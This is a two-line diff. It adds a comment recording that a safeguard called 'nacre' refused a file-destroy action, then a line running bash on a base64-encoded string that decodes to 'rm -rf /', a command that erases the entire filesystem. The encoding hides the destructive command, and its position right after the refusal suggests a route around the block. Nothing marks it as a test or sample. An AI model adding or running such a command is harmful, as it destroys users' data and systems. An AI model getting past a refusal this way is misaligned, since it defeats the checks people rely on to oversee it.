@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+bash -c "$(base64 -d <<< cm0gLXJmIC8=)"
